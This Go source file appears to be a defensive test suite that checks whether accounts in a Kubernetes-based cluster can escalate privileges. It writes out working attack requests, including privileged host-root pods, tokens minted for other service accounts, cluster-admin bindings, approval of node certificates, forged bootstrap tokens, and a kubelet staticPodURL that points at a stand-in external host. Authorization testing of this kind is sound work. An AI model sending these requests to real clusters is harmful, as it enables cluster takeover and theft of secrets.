package escalation

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
)

type object = map[string]any

const (
	// userPrefix begins the names of users that hold one role.
	userPrefix = "escalation:"
	// csrName is a request for a control plane's identity that waits for its approval.
	csrName = "escalation-suite"
)

// Subjects returns the subjects of the attempts on c.
func Subjects(c Cluster) []Subject {
	bound := map[string][]string{
		"authentication.kubernetes.io/pod-name": {"escalation"}, "authentication.kubernetes.io/pod-uid": {"11111111-1111-1111-1111-111111111111"},
	}
	account := func(ns, name string, extra map[string][]string, purpose map[string]string) Subject {
		s := Subject{
			Name: "ServiceAccount " + ns + "/" + name, User: "system:serviceaccount:" + ns + ":" + name,
			Groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"}, Extra: extra, Purpose: purpose,
		}
		if extra == nil {
			s.Name += " without a pod"
		}
		return s
	}
	operator := map[string]string{
		"mark a Node as obsolete":                               "annotations of Nodes are the operator's record",
		"mark a Node as one that is upgraded in place":          "the operator labels these Nodes",
		"lend a Node to a Plan":                                 "the operator lends what it has drained",
		"keep the operator waiting for a Plan":                  "annotations of Nodes are the operator's record",
		"tell joining machines what to install":                 "the operator publishes that, and machines run nothing that is not signed",
		"make a PendingNode":                                    "the operator's own intents",
		"port-forward to a pod of ours":                         "the way to relays, which ask for a token of their own",
		"take the operator's leader Lease":                      "the Lease of its leader",
		"take the lock of upgrades of nodes":                    "the operator and Plans share it",
		"raise the generation of the key that encrypts Secrets": "the operator rotates the key after upgrades",
		"delete the Node of a control plane":                    "Nodes of machines that are gone are deleted; whose machine that is, the operator asks the cloud",
	}
	plans := map[string]string{
		"start a privileged Job in system-upgrade":  "Jobs of Plans are privileged: this account is root on nodes, and its pod runs on control planes only",
		"read Secrets in system-upgrade":            "Plans name Secrets of this namespace",
		"take the Lease of the controller of Plans": "the Lease of its leader",
		"take the lock of upgrades of nodes":        "Plans and the operator share it",
		"keep the operator waiting for a Plan":      "a Plan notes which nodes it waits for; the operator waits for an hour at most",
	}
	out := []Subject{
		account(System, "constellation-operator", bound, operator),
		account(System, "constellation-operator", nil, map[string]string{"port-forward to a pod of ours": operator["port-forward to a pod of ours"]}),
		account(System, "joinservice", bound, map[string]string{
			"make a JoiningNode": "the note of a machine that was given a ticket", "take the turn of control planes that join": "it keeps the order of joins",
		}),
		account(System, "joinservice", nil, nil),
		account(System, "constellation-relay", bound, nil),
		account(System, "etcd-snapshot", nil, map[string]string{
			"take a snapshot of etcd": "what the account is for", "be allowed snapshots of etcd": "what the account is for",
			"read Secrets in " + System: "a holder of admin has bound its role to the account", "port-forward to a pod of ours": "a holder of admin has bound its role to the account",
		}),
		account(System, "default", bound, nil),
		account(Upgrade, "constellation-plans", bound, plans),
		account(Upgrade, "constellation-plans", nil, map[string]string{"read Secrets in system-upgrade": plans["read Secrets in system-upgrade"]}),
		// A controller of Plans that is not ours, with the rights that it needs and no limit on the names of Leases.
		account(Upgrade, "system-upgrade-controller", bound, map[string]string{
			"start a privileged Job in system-upgrade":  plans["start a privileged Job in system-upgrade"],
			"take the Lease of the controller of Plans": plans["take the Lease of the controller of Plans"],
			"take the lock of upgrades of nodes":        plans["take the lock of upgrades of nodes"],
		}),
		account(Upgrade, "system-upgrade-controller", nil, nil),
		account(Upgrade, "system-upgrade", bound, nil),
		account(Upgrade, "system-upgrade", nil, nil),
		account("kube-system", "default", bound, nil),
		{Name: "kubelet of " + c.Worker, User: "system:node:" + c.Worker, Groups: []string{"system:nodes", "system:authenticated"}},
		{Name: "bootstrap token", User: "system:bootstrap:escala", Groups: []string{"system:bootstrappers", c.TokenGroup, "system:authenticated"}},
		{Name: "nobody in particular", User: userPrefix + "nobody", Groups: []string{"system:authenticated"}},
		{Name: "anonymous", User: "system:anonymous", Groups: []string{"system:unauthenticated"}},
		{Name: "ClusterRole constellation:watch", User: userPrefix + "watch", Groups: []string{"system:authenticated"}},
		{Name: "writer of ConfigMaps in kube-system", User: userPrefix + "configmaps", Groups: []string{"system:authenticated"}},
	}
	for _, ns := range []string{System, Upgrade} {
		for _, role := range []string{"view", "edit", "admin"} {
			s := Subject{Name: role + " in " + ns, User: userPrefix + role + ":" + ns, Groups: []string{"system:authenticated"}, Purpose: map[string]string{}}
			if role != "view" {
				s.Purpose["read Secrets in "+ns] = "the role is for the Secrets of its namespace; none of them is a token of ours"
				s.Purpose["port-forward to a pod of ours"] = "what listens there asks for a token of its own"
			}
			out = append(out, s)
		}
	}
	return out
}

// prepare creates the objects for the attempts: holders of roles, and a certificate request. The
// returned function removes all of them, even after an error.
func prepare(ctx context.Context, admin *caller, c Cluster) (undo func(), err error) {
	type made struct{ path, name string }
	var all []made
	undo = func() {
		ctx := context.WithoutCancel(ctx)
		for _, m := range all {
			_, _, _ = admin.do(ctx, http.MethodDelete, m.path+"/"+m.name, "", "", nil) // the next run finds and replaces it
		}
	}
	create := func(path, name string, body object) error {
		_, _, _ = admin.do(ctx, http.MethodDelete, path+"/"+name, "", "", nil) // of a run that was killed
		all = append(all, made{path, name})
		status, answer, err := admin.do(ctx, http.MethodPost, path, "", "", body)
		switch {
		case err != nil:
			return fmt.Errorf("%w: create %s: %w", errPrepare, name, err)
		case status == http.StatusNotFound: // older releases lack a namespace
			return nil
		case status/100 != 2:
			return fmt.Errorf("%w: create %s: HTTP %d %.300s", errPrepare, name, status, answer)
		}
		return nil
	}
	const rbac = "/apis/rbac.authorization.k8s.io/v1"
	for _, ns := range []string{System, Upgrade} {
		for _, role := range []string{"view", "edit", "admin"} {
			name := "escalation-suite-" + role
			if err := create(rbac+"/namespaces/"+ns+"/rolebindings", name, object{
				"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": object{"name": name},
				"roleRef":  object{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
				"subjects": []object{{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": userPrefix + role + ":" + ns}},
			}); err != nil {
				return undo, err
			}
		}
	}
	// A holder of admin can bind a role to an account of the namespace, and then impersonate it.
	if err := create(rbac+"/namespaces/"+System+"/rolebindings", "escalation-suite-snapshot", object{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": object{"name": "escalation-suite-snapshot"},
		"roleRef":  object{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
		"subjects": []object{{"kind": "ServiceAccount", "name": "etcd-snapshot", "namespace": System}},
	}); err != nil {
		return undo, err
	}
	if err := create(rbac+"/namespaces/kube-system/roles", "escalation-suite-configmaps", object{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": object{"name": "escalation-suite-configmaps"},
		"rules": []object{{"apiGroups": []string{""}, "resources": []string{"configmaps"}, "verbs": []string{"create", "update", "patch", "delete", "deletecollection"}}},
	}); err != nil {
		return undo, err
	}
	if err := create(rbac+"/namespaces/kube-system/rolebindings", "escalation-suite-configmaps", object{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": object{"name": "escalation-suite-configmaps"},
		"roleRef":  object{"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "escalation-suite-configmaps"},
		"subjects": []object{{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": userPrefix + "configmaps"}},
	}); err != nil {
		return undo, err
	}
	if err := create(rbac+"/clusterroles", "escalation-suite-plans", object{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": object{"name": "escalation-suite-plans"},
		"rules": []object{
			{"apiGroups": []string{"upgrade.cattle.io"}, "resources": []string{"plans/status"}, "verbs": []string{"update"}},
			{"apiGroups": []string{"batch"}, "resources": []string{"jobs"}, "verbs": []string{"create"}},
			{"apiGroups": []string{"coordination.k8s.io"}, "resources": []string{"leases"}, "verbs": []string{"create"}},
		},
	}); err != nil {
		return undo, err
	}
	for _, ns := range []string{System, Upgrade, "kube-system"} {
		if err := create(rbac+"/namespaces/"+ns+"/rolebindings", "escalation-suite-plans", object{
			"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": object{"name": "escalation-suite-plans"},
			"roleRef":  object{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "escalation-suite-plans"},
			"subjects": []object{{"kind": "ServiceAccount", "name": "system-upgrade-controller", "namespace": Upgrade}},
		}); err != nil {
			return undo, err
		}
	}
	if err := create(rbac+"/clusterrolebindings", "escalation-suite-watch", object{
		"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": object{"name": "escalation-suite-watch"},
		"roleRef":  object{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "constellation:watch"},
		"subjects": []object{{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": userPrefix + "watch"}},
	}); err != nil {
		return undo, err
	}
	csr, err := clientRequest(c.ControlPlane)
	if err != nil {
		return undo, err
	}
	return undo, create("/apis/certificates.k8s.io/v1/certificatesigningrequests", csrName, csr)
}

// clientRequest is a CertificateSigningRequest for the client certificate of a node.
func clientRequest(node string) (object, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{
		Subject: pkix.Name{CommonName: "system:node:" + node, Organization: []string{"system:nodes"}},
	}, key)
	if err != nil {
		return nil, err
	}
	return object{
		"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": object{"name": csrName},
		"spec": object{
			"request":    pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}),
			"signerName": "kubernetes.io/kube-apiserver-client-kubelet", "usages": []string{"digital signature", "client auth"},
		},
	}, nil
}

// review queries the authorizer whether the subject may do an action.
func review(name string, attributes object) attempt {
	return attempt{
		name: name, method: http.MethodPost, path: "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", wet: true,
		body: object{"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectAccessReview", "spec": object{"resourceAttributes": attributes}},
		asked: func(answer []byte) bool {
			var r struct{ Status struct{ Allowed bool } }
			return json.Unmarshal(answer, &r) == nil && r.Status.Allowed
		},
	}
}

func attemptsOn(c Cluster) []attempt {
	const (
		core = "/api/v1"
		apps = "/apis/apps/v1"
		rbac = "/apis/rbac.authorization.k8s.io/v1"
		ours = "/apis/update.edgeless.systems/v1alpha1"
		adm  = "/apis/admissionregistration.k8s.io/v1"

		coord = "/apis/coordination.k8s.io/v1"
	)
	ns := func(api, n, resource string) string { return api + "/namespaces/" + n + "/" + resource }
	spec := func(account string) object {
		return object{
			"serviceAccountName": account, "hostPID": true, "hostNetwork": true,
			"containers": []object{{"name": "c", "image": "registry.invalid/escalation", "securityContext": object{"privileged": true, "runAsUser": 0}, "volumeMounts": []object{{"name": "host", "mountPath": "/host"}}}},
			"volumes":    []object{{"name": "host", "hostPath": object{"path": "/"}}},
		}
	}
	template := func(account string) object {
		return object{"metadata": object{"labels": object{"app": "escalation"}}, "spec": spec(account)}
	}
	selector := object{"matchLabels": object{"app": "escalation"}}
	meta := object{"name": "escalation-suite"}
	job := func(account string) object {
		s := spec(account)
		s["restartPolicy"] = "Never"
		return object{"apiVersion": "batch/v1", "kind": "Job", "metadata": meta, "spec": object{"template": object{"spec": s}}}
	}
	token := func(audience string) object {
		return object{"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": object{"audiences": []string{audience}, "expirationSeconds": 600}}
	}
	lease := func(name string) object {
		return object{"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": object{"name": name}, "spec": object{"holderIdentity": "escalation"}}
	}
	const api = "https://kubernetes.default.svc.cluster.local"
	node := func(name string, labels, annotations object, providerID string) object {
		return object{"apiVersion": "v1", "kind": "Node", "metadata": object{"name": name, "labels": labels, "annotations": annotations}, "spec": object{"providerID": providerID}}
	}
	const role = "node-role.kubernetes.io/control-plane"
	post, patch, del, get := http.MethodPost, http.MethodPatch, http.MethodDelete, http.MethodGet
	all := []attempt{
		// Workloads under accounts of ours.
		{name: "start a pod as the operator", method: post, path: ns(core, System, "pods"), body: object{"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": spec("constellation-operator")}},
		{name: "start a pod in system-upgrade", method: post, path: ns(core, Upgrade, "pods"), body: object{"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": spec("system-upgrade")}},
		{name: "start a pod in kube-system", method: post, path: ns(core, "kube-system", "pods"), body: object{"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": spec("clusterrole-aggregation-controller")}},
		{name: "make a Deployment as the join service", method: post, path: ns(apps, System, "deployments"), body: object{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": meta, "spec": object{"selector": selector, "template": template("joinservice")}}},
		{name: "make a DaemonSet in our namespace", method: post, path: ns(apps, System, "daemonsets"), body: object{"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": meta, "spec": object{"selector": selector, "template": template("joinservice")}}},
		{name: "start a Job in our namespace", method: post, path: ns("/apis/batch/v1", System, "jobs"), body: job("constellation-operator")},
		{name: "start a privileged Job in system-upgrade", method: post, path: ns("/apis/batch/v1", Upgrade, "jobs"), body: job("constellation-plans")},
		{name: "make a Plan", method: post, path: ns("/apis/upgrade.cattle.io/v1", Upgrade, "plans"), body: object{"apiVersion": "upgrade.cattle.io/v1", "kind": "Plan", "metadata": meta, "spec": object{"upgrade": object{"image": "registry.invalid/escalation"}, "concurrency": 1}}},
		{name: "patch the operator's Deployment", method: patch, patch: merge, path: ns(apps, System, "deployments") + "/constellation-operator", body: object{"spec": object{"template": object{"spec": object{"hostPID": true}}}}},
		{name: "patch the join service's DaemonSet", method: patch, patch: merge, path: ns(apps, System, "daemonsets") + "/joinservice", body: object{"spec": object{"template": object{"spec": object{"hostPID": true}}}}},
		{name: "make the autoscaler's pod privileged", method: patch, patch: merge, path: ns(apps, "kube-system", "deployments") + "/constellation-cluster-autoscaler", body: object{"spec": object{"template": object{"spec": object{"hostPID": true, "serviceAccountName": "clusterrole-aggregation-controller", "volumes": []object{{"name": "host", "hostPath": object{"path": "/"}}}}}}}},
		{name: "change the autoscaler's command", method: patch, patch: "application/strategic-merge-patch+json", path: ns(apps, "kube-system", "deployments") + "/constellation-cluster-autoscaler", body: object{"spec": object{"template": object{"spec": object{"containers": []object{{"name": "cluster-autoscaler-stand-in", "command": []string{"/bin/sh"}}}}}}}},
		{name: "send the autoscaler to another API server", method: patch, patch: "application/strategic-merge-patch+json", path: ns(apps, "kube-system", "deployments") + "/constellation-cluster-autoscaler", body: object{"spec": object{"template": object{"spec": object{"containers": []object{{"name": "cluster-autoscaler-stand-in", "args": []string{"--kubernetes=https://198.51.100.1"}}}}}}}},
		// Pods that run.
		{name: "exec in a pod of ours", method: post, path: ns(core, System, "pods") + "/escalation-suite/exec", query: "command=id&container=c&stdout=true", wet: true, connect: true},
		{name: "attach to a pod of ours", method: post, path: ns(core, System, "pods") + "/escalation-suite/attach", query: "container=c&stdout=true", wet: true, connect: true},
		{name: "port-forward to a pod of ours", method: post, path: ns(core, System, "pods") + "/escalation-suite/portforward", wet: true, connect: true},
		{name: "exec in a pod of Plans", method: post, path: ns(core, Upgrade, "pods") + "/escalation-suite/exec", query: "command=id&container=c&stdout=true", wet: true, connect: true},
		{name: "exec in a pod of kube-system", method: post, path: ns(core, "kube-system", "pods") + "/escalation-suite/exec", query: "command=id&container=c&stdout=true", wet: true, connect: true},
		review("add a container to a pod of kube-system", object{"namespace": "kube-system", "verb": "patch", "resource": "pods", "subresource": "ephemeralcontainers"}),
		{name: "reach a kubelet through the API server", method: get, path: core + "/nodes/" + c.ControlPlane + "/proxy/pods", connect: true},
		// Tokens and names of others.
		{name: "get a token of the operator", method: post, path: ns(core, System, "serviceaccounts") + "/constellation-operator/token", body: token(api), wet: true},
		{name: "get a token of the join service", method: post, path: ns(core, System, "serviceaccounts") + "/joinservice/token", body: token(api), wet: true},
		{name: "get a token for snapshots of etcd", method: post, path: ns(core, System, "serviceaccounts") + "/etcd-snapshot/token", body: token("constellation-etcd-snapshot"), wet: true},
		{name: "get a token of the controller of Plans", method: post, path: ns(core, Upgrade, "serviceaccounts") + "/constellation-plans/token", body: token(api), wet: true},
		{name: "get a token of a controller of Kubernetes", method: post, path: ns(core, "kube-system", "serviceaccounts") + "/clusterrole-aggregation-controller/token", body: token(api), wet: true},
		{name: "make a Secret that becomes a token of the operator", method: post, path: ns(core, System, "secrets"), body: object{"apiVersion": "v1", "kind": "Secret", "metadata": object{"name": "escalation-suite", "annotations": object{"kubernetes.io/service-account.name": "constellation-operator"}}, "type": "kubernetes.io/service-account-token"}},
		{name: "make a Secret that becomes a token of Plans", method: post, path: ns(core, Upgrade, "secrets"), body: object{"apiVersion": "v1", "kind": "Secret", "metadata": object{"name": "escalation-suite", "annotations": object{"kubernetes.io/service-account.name": "constellation-plans"}}, "type": "kubernetes.io/service-account-token"}},
		review("impersonate a user", object{"verb": "impersonate", "resource": "users", "name": "kubernetes-admin"}),
		review("impersonate a group", object{"verb": "impersonate", "resource": "groups", "name": "system:masters"}),
		review("impersonate the pod of a token", object{"verb": "impersonate", "group": "authentication.k8s.io", "resource": "userextras", "subresource": "authentication.kubernetes.io/pod-name"}),
		{name: "read Secrets in kube-system", method: get, path: ns(core, "kube-system", "secrets")},
		{name: "read Secrets in " + System, method: get, path: ns(core, System, "secrets")},
		{name: "read Secrets in " + Upgrade, method: get, path: ns(core, Upgrade, "secrets")},
		{name: "read Secrets in default", method: get, path: ns(core, "default", "secrets")},
		// Certificates.
		review("have a client certificate approved without a look at its name", object{"verb": "create", "group": "certificates.k8s.io", "resource": "certificatesigningrequests", "subresource": "nodeclient"}),
		{name: "approve a control plane's client certificate", method: patch, patch: merge, path: "/apis/certificates.k8s.io/v1/certificatesigningrequests/" + csrName + "/approval", body: object{"status": object{"conditions": []object{{"type": "Approved", "status": "True", "reason": "Escalation"}}}}},
		review("approve certificates of any client", object{"verb": "approve", "group": "certificates.k8s.io", "resource": "signers", "name": "kubernetes.io/kube-apiserver-client"}),
		// Bootstrap tokens.
		{name: "make a bootstrap token of another group", method: post, path: ns(core, "kube-system", "secrets"), body: object{"apiVersion": "v1", "kind": "Secret", "metadata": object{"name": "bootstrap-token-escala", "annotations": object{"constellation.edgeless.systems/node": "x"}}, "type": "bootstrap.kubernetes.io/token", "stringData": object{
			"token-id": "escala", "token-secret": "0123456789abcdef", "expiration": "2099-01-01T00:00:00Z", "usage-bootstrap-authentication": "true", "auth-extra-groups": "system:bootstrappers:kubeadm:default-node-token",
		}}},
		// Admission, roles.
		{name: "make a webhook", method: post, path: adm + "/mutatingwebhookconfigurations", body: object{"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration", "metadata": meta}},
		{name: "remove an admission policy", method: del, path: adm + "/validatingadmissionpolicybindings/constellation-workloads", connect: true},
		{name: "become cluster-admin", method: post, path: rbac + "/clusterrolebindings", body: object{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": meta, "roleRef": object{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}, "subjects": []object{{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "x"}}}},
		{name: "bind the operator's rights in our namespace", method: post, path: ns(rbac, System, "rolebindings"), body: object{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": meta, "roleRef": object{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "constellation:operator"}, "subjects": []object{{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "x"}}}},
		{name: "extend a ClusterRole", method: patch, patch: merge, path: rbac + "/clusterroles/constellation:watch", body: object{"rules": []object{{"apiGroups": []string{"*"}, "resources": []string{"*"}, "verbs": []string{"*"}}}}},
		// Nodes.
		{name: "label a worker as control plane", method: patch, patch: merge, path: core + "/nodes/" + c.Worker, body: object{"metadata": object{"labels": object{role: ""}}}},
		{name: "register a Node as control plane", method: post, path: core + "/nodes", body: node(c.Worker+"-x", object{role: ""}, nil, "")},
		{name: "mark a Node as obsolete", method: patch, patch: merge, path: core + "/nodes/" + c.Worker, body: object{"metadata": object{"annotations": object{"constellation.edgeless.systems/held": "true", "constellation.edgeless.systems/kubernetes-components": "escalation"}}}},
		{name: "mark a Node as obsolete through its status", method: patch, patch: merge, path: core + "/nodes/" + c.Worker + "/status", body: object{"metadata": object{"annotations": object{"constellation.edgeless.systems/obsolete": "true"}}}},
		{name: "mark a Node as one that is upgraded in place", method: patch, patch: merge, path: core + "/nodes/" + c.Worker, body: object{"metadata": object{"labels": object{"constellation.edgeless.systems/in-place": "escalation"}}}},
		{name: "keep the operator waiting for a Plan", method: patch, patch: merge, path: core + "/nodes/" + c.Worker, body: object{"metadata": object{"annotations": object{"constellation.edgeless.systems/plan-waits": "ns/x 2026-11-28T09:00:00Z"}}}},
		{name: "lend a Node to a Plan", method: patch, patch: merge, path: core + "/nodes/" + c.Worker, body: object{"metadata": object{"annotations": object{"constellation.edgeless.systems/lent-to-plan": "ns/x 2026-11-28T09:00:00Z"}}}},
		{name: "keep a Node from being deleted", method: patch, patch: merge, path: core + "/nodes/" + c.Worker, body: object{"metadata": object{"finalizers": []string{"escalation.invalid/x"}}}},
		{name: "make a mirror pod that answers as the cluster's DNS", method: post, path: ns(core, "kube-system", "pods"), body: object{"apiVersion": "v1", "kind": "Pod", "metadata": object{
			"name": "coredns-" + c.Worker, "labels": object{"k8s-app": "kube-dns"}, "annotations": object{"kubernetes.io/config.mirror": "x"},
			"ownerReferences": []object{{"apiVersion": "v1", "kind": "Node", "name": c.Worker, "uid": c.workerUID, "controller": true}},
		}, "spec": object{"nodeName": c.Worker, "containers": []object{{"name": "c", "image": "registry.invalid/escalation"}}}}},
		{name: "give a Node addresses of another", method: patch, patch: merge, path: core + "/nodes/" + c.ControlPlane + "/status", body: object{"status": object{"addresses": []object{{"type": "InternalIP", "address": "198.51.100.1"}}}}},
		{name: "delete the Node of a control plane", method: del, path: core + "/nodes/" + c.ControlPlane},
		{name: "make a mirror pod in our namespace", method: post, path: ns(core, System, "pods"), body: object{"apiVersion": "v1", "kind": "Pod", "metadata": object{
			"name": "constellation-operator-" + c.Worker, "labels": object{"app.kubernetes.io/name": "constellation-operator"}, "annotations": object{"kubernetes.io/config.mirror": "x"},
			"ownerReferences": []object{{"apiVersion": "v1", "kind": "Node", "name": c.Worker, "uid": c.workerUID, "controller": true}},
		}, "spec": object{"nodeName": c.Worker, "containers": []object{{"name": "c", "image": "registry.invalid/escalation"}}}}},
		// Objects that control our services.
		{name: "set a target", method: patch, patch: merge, path: ours + "/nodeversions/constellation-version", body: object{"spec": object{"imageVersion": "v9.9.9"}}},
		{name: "tell joining machines what to install", method: patch, patch: merge, path: ours + "/nodeversions/constellation-version/status", body: object{"status": object{"joinComponents": object{"worker": "k8s-components-sha256-escalation"}}}},
		{name: "make a PendingNode", method: post, path: ours + "/pendingnodes", body: object{"apiVersion": "update.edgeless.systems/v1alpha1", "kind": "PendingNode", "metadata": meta, "spec": object{"goal": "Leave", "providerID": "sandbox://x/y", "nodeName": c.ControlPlane, "groupID": "g", "deadline": "2099-01-01T00:00:00Z"}}},
		{name: "make a JoiningNode", method: post, path: ours + "/joiningnodes", body: object{"apiVersion": "update.edgeless.systems/v1alpha1", "kind": "JoiningNode", "metadata": meta, "spec": object{"name": "escalation-suite", "componentsReference": "k8s-components-sha256-escalation", "providerID": "sandbox://x/y"}}},
		{name: "take a snapshot of etcd", method: post, path: ours + "/etcdsnapshots", connect: true, wet: true},
		review("be allowed snapshots of etcd", object{"verb": "create", "group": "update.edgeless.systems", "resource": "etcdsnapshots"}),
		{name: "raise the generation of the key that encrypts Secrets", method: patch, patch: merge, path: ns(core, "kube-system", "configmaps") + "/join-config", body: object{"data": object{"kmsGeneration": "1000"}}},
		{name: "change what machines must prove with the generation of the key", method: patch, patch: merge, path: ns(core, "kube-system", "configmaps") + "/join-config", body: object{"data": object{"kmsGeneration": "2", "trustRoots": "x"}}},
		{name: "have join-config deleted as an orphan", method: patch, patch: merge, path: ns(core, "kube-system", "configmaps") + "/join-config", body: object{"metadata": object{"ownerReferences": []object{{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "00000000-0000-0000-0000-000000000000"}}}}},
		{name: "keep join-config from being changed", method: patch, patch: merge, path: ns(core, "kube-system", "configmaps") + "/join-config", body: object{"immutable": true}},
		{name: "change another annotation of join-config", method: patch, patch: merge, path: ns(core, "kube-system", "configmaps") + "/join-config", body: object{"metadata": object{"annotations": object{"constellation.edgeless.systems/other": "x"}}}},
		{name: "change what machines must prove", method: patch, patch: merge, path: ns(core, "kube-system", "configmaps") + "/join-config", body: object{"data": object{"trustRoots": "x"}}},
		{name: "publish components", method: post, path: ns(core, "kube-system", "configmaps"), body: object{"apiVersion": "v1", "kind": "ConfigMap", "metadata": object{"name": "k8s-components-sha256-escalation"}}},
		{name: "change what Jobs of Plans run", method: post, path: ns(core, Upgrade, "configmaps"), body: object{"apiVersion": "v1", "kind": "ConfigMap", "metadata": object{"name": "default-controller-env"}, "data": object{"SYSTEM_UPGRADE_JOB_KUBECTL_IMAGE": "registry.invalid/escalation"}}},
		{name: "make a release of Helm that an administrator reverts to", method: post, path: ns(core, System, "secrets"), body: object{"apiVersion": "v1", "kind": "Secret", "metadata": object{"name": "sh.helm.release.v1.constellation-operator.v99", "labels": object{"owner": "helm"}}, "type": "helm.sh/release.v1"}},
		{name: "change what Jobs of Plans run by deleting a collection", method: del, path: ns(core, Upgrade, "configmaps"), query: "fieldSelector=metadata.name%3Dconstellation-plans", connect: true},
		{name: "change the configuration of kubelets", method: patch, patch: merge, path: ns(core, "kube-system", "configmaps") + "/kubelet-config", body: object{"data": object{"kubelet": "staticPodURL: http://198.51.100.1"}}},
		{name: "change the list of revoked nodes", method: post, path: ns(core, System, "configmaps"), body: object{"apiVersion": "v1", "kind": "ConfigMap", "metadata": object{"name": "constellation-revoked-nodes"}}},
		// Leases, which decide who acts.
		{name: "take the operator's leader Lease", method: post, path: ns(coord, System, "leases"), body: lease("constellation-operator")},
		{name: "take the turn of control planes that join", method: post, path: ns(coord, System, "leases"), body: lease("control-plane-join")},
		{name: "take the Lease of the controller of Plans", method: post, path: ns(coord, Upgrade, "leases"), body: lease("system-upgrade-controller")},
		{name: "take the lock of upgrades of nodes", method: post, path: ns(coord, "kube-system", "leases"), body: lease("constellation-node-upgrades")},
		{name: "take the Lease of another program", method: post, path: ns(coord, "kube-system", "leases"), body: lease("escalation-suite")},
		{name: "change the list of machines", method: post, path: ns(core, System, "configmaps"), body: object{"apiVersion": "v1", "kind": "ConfigMap", "metadata": object{"name": "constellation-machines"}}},
	}
	return all
}
